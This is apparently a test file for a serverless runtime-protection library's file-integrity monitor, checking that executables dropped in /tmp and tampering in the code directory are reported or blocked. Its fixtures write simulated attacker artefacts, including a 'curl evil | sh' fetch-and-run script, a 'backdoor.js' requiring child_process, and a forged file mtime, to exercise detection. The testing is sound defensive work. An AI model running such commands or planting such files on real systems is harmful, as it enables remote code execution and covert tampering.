/**
 * File-integrity monitoring with real temp directories standing for /tmp and the code directory.
 * `invoke` does what the adapters do around a handler: wait for a scan in flight, `check()` before,
 * `after()` when the handler settles.
 */
import t from 'tap';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { RaspConfigError } from '../../src/errors';
import { createIntegrityMonitor, defaultCodeDirs, resolveIntegrityOptions, type IntegrityMonitor, type IntegrityOptions, type IntegrityVerdict } from '../../src/integrity/index';
import { tempDir } from '../sinks/helpers';

interface Outcome<T> {
  integrity: IntegrityVerdict | undefined;
  refused: boolean;
  value?: T;
}

async function invoke<T>(mon: IntegrityMonitor, handler: () => T | Promise<T>): Promise<Outcome<T>> {
  if (mon.busy) await mon.settled();
  const v = mon.check();
  if (v?.action === 'block') return { integrity: v, refused: true };
  try {
    return { integrity: v, refused: false, value: await handler() };
  } finally {
    mon.after();
  }
}

function setup(extra: IntegrityOptions = {}, mode: 'block' | 'monitor' = 'block', prepare?: (code: string) => void): { tmp: string; code: string; mon: IntegrityMonitor } {
  const tmp = tempDir('rasp-integrity-tmp-');
  const code = tempDir('rasp-integrity-code-');
  fs.writeFileSync(path.join(code, 'index.js'), 'exports.handler = async () => "ok";\n');
  fs.mkdirSync(path.join(code, 'lib'));
  fs.writeFileSync(path.join(code, 'lib', 'util.js'), 'module.exports = 1;\n');
  fs.mkdirSync(path.join(code, 'node_modules', 'dep'), { recursive: true });
  fs.writeFileSync(path.join(code, 'node_modules', 'dep', 'index.js'), 'module.exports = 2;\n');
  fs.writeFileSync(path.join(tmp, 'cache.json'), '{}');
  prepare?.(code);
  const opts = resolveIntegrityOptions({ watchDirs: [tmp], codeDirs: [code], intervalMs: 0, codeIntervalMs: 0, waitMs: 2000, ...extra }, {})!;
  return { tmp, code, mon: createIntegrityMonitor(opts, mode) };
}

t.test('options: validated, platform defaults', async (t) => {
  t.equal(resolveIntegrityOptions(undefined), undefined);
  t.equal(resolveIntegrityOptions(false), undefined);
  const on = resolveIntegrityOptions(true, { LAMBDA_TASK_ROOT: '/var/task' })!;
  t.same(on.codeDirs, ['/var/task']);
  t.ok(on.watchDirs.includes('/tmp'));
  t.match(on, { intervalMs: 1000, codeIntervalMs: 10_000, action: 'alert', hash: false });
  t.same(defaultCodeDirs({ WEBSITE_SITE_NAME: 'app' }), ['/home/site/wwwroot'], 'Azure without AzureWebJobsScriptRoot');
  t.same(defaultCodeDirs({ AzureWebJobsScriptRoot: '/home/site/wwwroot/x' }), ['/home/site/wwwroot/x']);
  t.same(defaultCodeDirs({ K_SERVICE: 'fn' }, '/workspace'), ['/workspace'], 'GCP: the source dir');
  const bad: Array<[unknown, RegExp]> = [
    ['yes', /options.integrity must be true, false or an object/],
    [{ watchDirs: ['tmp'] }, /integrity.watchDirs: 'tmp' must be an absolute path/],
    [{ action: 'deny' }, /integrity.action must be 'alert' or 'block'/],
    [{ intervalMs: -1 }, /integrity.intervalMs must be an integer/],
    [{ dirs: [] }, /unknown option 'integrity.dirs'/],
  ];
  for (const [v, re] of bad) {
    const err = t.throws(() => resolveIntegrityOptions(v, {})) as RaspConfigError;
    t.equal(err.code, 'RASP_ERR_OPTIONS');
    t.match(err.message, re);
  }
});

t.test('an executable written to /tmp in one invocation is reported in the next', async (t) => {
  const { tmp, mon } = setup();
  await mon.ready();
  const first = await invoke(mon, () => {
    // What an attacker's payload does: drop a tool and make it executable.
    fs.writeFileSync(path.join(tmp, '.x'), '\x7fELF\x02\x01\x01' + 'A'.repeat(100));
    fs.chmodSync(path.join(tmp, '.x'), 0o755);
    fs.writeFileSync(path.join(tmp, 'report.csv'), 'a,b\n1,2\n'); // data: not a finding
    return 'done';
  });
  t.equal(first.integrity, undefined, 'nothing to report before the write');
  t.equal(first.value, 'done');

  const second = await invoke(mon, () => 'next');
  t.ok(second.integrity, 'integrity event in the next invocation');
  t.equal(second.integrity!.action, 'monitor', "action 'alert' reports without blocking");
  t.equal(second.value, 'next', 'the handler still ran');
  t.same(
    second.integrity!.findings.map((f) => [f.rule, f.path]),
    [['integrity.tmp-executable', path.join(tmp, '.x')]],
  );
  const f = second.integrity!.findings[0]!;
  t.match(f, { class: 'custom', confidence: 'high', source: 'event' });
  t.match(f.reason, /mode 755/);

  const third = await invoke(mon, () => 'again');
  t.equal(third.integrity, undefined, 'each change is reported once');
  t.equal(mon.stats().findings, 1);
});

t.test('scripts and binaries without an x bit are recognized; data files are not', async (t) => {
  const { tmp, mon } = setup();
  await mon.ready();
  await invoke(mon, () => {
    fs.writeFileSync(path.join(tmp, 'payload'), '#!/bin/sh\ncurl evil | sh\n');
    fs.writeFileSync(path.join(tmp, 'implant.bin'), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]));
    fs.writeFileSync(path.join(tmp, 'miner.py'), 'import os\n');
    fs.mkdirSync(path.join(tmp, 'deep', 'er'), { recursive: true });
    fs.writeFileSync(path.join(tmp, 'deep', 'er', 'lib.so'), 'x');
    fs.writeFileSync(path.join(tmp, 'upload.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47]));
    fs.writeFileSync(path.join(tmp, 'cache.json'), '{"changed":true}');
  });
  const next = await invoke(mon, () => undefined);
  const got = next.integrity!.findings.map((f) => `${path.relative(tmp, f.path)} ${f.reason.match(/\(([^,]+),/)![1]}`).sort();
  t.same(got, ['deep/er/lib.so .so file', 'implant.bin ELF binary', 'miner.py .py file', 'payload starts with #!']);
});

t.test('a data file made executable later is a changed executable', async (t) => {
  const { tmp, mon } = setup();
  await mon.ready();
  await invoke(mon, () => fs.chmodSync(path.join(tmp, 'cache.json'), 0o700));
  const next = await invoke(mon, () => undefined);
  t.same(next.integrity!.findings.map((f) => f.rule), ['integrity.tmp-executable-changed']);
});

t.test('any change in the code directory is reported: modified, added, removed, forged mtime', async (t) => {
  // A whole-second mtime, so that forging it back is exact.
  const { code, mon } = setup({}, 'block', (dir) => fs.utimesSync(path.join(dir, 'index.js'), 1_700_000_000, 1_700_000_000));
  await mon.ready();
  t.ok(mon.stats().codeEntries >= 6, 'baseline recorded');
  const index = path.join(code, 'index.js');
  await invoke(mon, () => {
    // Same size, mtime forged back: only ctime betrays it.
    fs.writeFileSync(index, 'exports.handler = async () => "OK";\n');
    fs.utimesSync(index, 1_700_000_000, 1_700_000_000);
    fs.writeFileSync(path.join(code, 'lib', 'backdoor.js'), 'require("child_process")');
    fs.rmSync(path.join(code, 'lib', 'util.js'));
    fs.writeFileSync(path.join(code, 'node_modules', 'dep', 'index.js'), 'module.exports = evil;\n');
  });
  const next = await invoke(mon, () => undefined);
  const got = next.integrity!.findings.map((f) => `${f.rule} ${path.relative(code, f.path)}`).sort();
  t.same(got, [
    'integrity.code-added lib/backdoor.js',
    'integrity.code-modified index.js',
    'integrity.code-modified node_modules/dep/index.js',
    'integrity.code-removed lib/util.js',
  ]);
  t.match(next.integrity!.findings.find((f) => f.path === index)!.reason, /metadata changed \(ctime\)/);
});

t.test('hash: content hashes of the function files are compared on a sample', async (t) => {
  const { code, mon } = setup({ hash: true, hashSample: 10 });
  await mon.ready();
  t.equal(mon.stats().hashed, 2, 'index.js and lib/util.js hashed, node_modules skipped');
  await invoke(mon, () => fs.writeFileSync(path.join(code, 'lib', 'util.js'), 'module.exports = 9;\n'));
  const next = await invoke(mon, () => undefined);
  t.same(next.integrity!.findings.map((f) => f.rule).sort(), ['integrity.code-content', 'integrity.code-modified']);
});

t.test('block mode with action block: a tampered instance refuses every further invocation', async (t) => {
  const { tmp, mon } = setup({ action: 'block' });
  await mon.ready();
  await invoke(mon, () => {
    fs.writeFileSync(path.join(tmp, 'kit.sh'), 'echo');
  });
  let ran = false;
  const next = await invoke(mon, () => (ran = true));
  t.equal(next.refused, true);
  t.equal(ran, false, 'handler not called');
  t.equal(next.integrity!.fresh, true);
  const later = await invoke(mon, () => (ran = true));
  t.equal(later.refused, true, 'still refused');
  t.equal(later.integrity!.fresh, false, 'the same findings, not reported as new');
  t.equal(mon.stats().tampered, true);
});

t.test('monitor mode never refuses, even with action block', async (t) => {
  const { tmp, mon } = setup({ action: 'block' }, 'monitor');
  await mon.ready();
  await invoke(mon, () => fs.writeFileSync(path.join(tmp, 'kit.sh'), 'echo'));
  const next = await invoke(mon, () => 'ran');
  t.equal(next.refused, false);
  t.equal(next.integrity!.action, 'monitor');
});

t.test('no scan before the interval: after() costs a clock read', async (t) => {
  const { tmp, mon } = setup({ intervalMs: 60_000, codeIntervalMs: 60_000 });
  await mon.ready();
  await invoke(mon, () => undefined); // first: due at once
  await mon.settled();
  const scans = mon.stats().scans;
  await invoke(mon, () => fs.writeFileSync(path.join(tmp, 'late.sh'), 'echo'));
  t.equal(mon.busy, false, 'no scan scheduled inside the interval');
  t.equal(mon.stats().scans, scans);
  const found = await mon.scanNow();
  t.same(found.map((f) => f.rule), ['integrity.tmp-executable'], 'scanNow finds it');
});

t.test('ignore and files present at cold start', async (t) => {
  const tmp = tempDir('rasp-integrity-tmp-');
  fs.writeFileSync(path.join(tmp, 'preexisting.sh'), 'echo', { mode: 0o755 });
  fs.mkdirSync(path.join(tmp, 'bincache'));
  const mon = createIntegrityMonitor(resolveIntegrityOptions({ watchDirs: [tmp], codeDirs: [], intervalMs: 0, ignore: [path.join(tmp, 'bincache')] }, {})!);
  await mon.ready();
  await invoke(mon, () => fs.writeFileSync(path.join(tmp, 'bincache', 'tool'), 'x', { mode: 0o755 }));
  const next = await invoke(mon, () => undefined);
  t.equal(next.integrity, undefined, 'cold-start files and ignored dirs are not findings');
});
